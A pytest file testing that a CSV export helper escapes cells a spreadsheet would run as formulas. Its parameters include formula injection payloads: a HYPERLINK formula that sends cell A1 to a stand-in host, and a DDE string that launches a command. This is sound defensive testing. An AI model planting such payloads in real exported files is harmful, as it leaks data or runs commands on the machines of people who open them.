"""CSV a user downloads: cells a spreadsheet would run as a formula are escaped (OWASP)."""

import csv
import io

import pytest

from core.csvout import SafeDictWriter, SafeWriter, cell_safe


@pytest.mark.parametrize(
    "text",
    ["=1+2", '=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
     "\t=1+2", "\r=1+2", "-", "+"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+1.5", "-0.25e3", "plain", "a=b", "", -5, 2.5, None, True])
def test_numbers_and_ordinary_text_are_written_unchanged(value):
    assert cell_safe(value) == value


def test_the_writers_escape_every_cell_and_the_header():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+2", "-3", "@x"])
    writer = SafeDictWriter(out, ["name", "=evil"])
    writer.writeheader()
    writer.writerow({"name": "=cmd", "=evil": "ok"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+2", "-3", "'@x"], ["name", "'=evil"], ["'=cmd", "ok"],
    ]
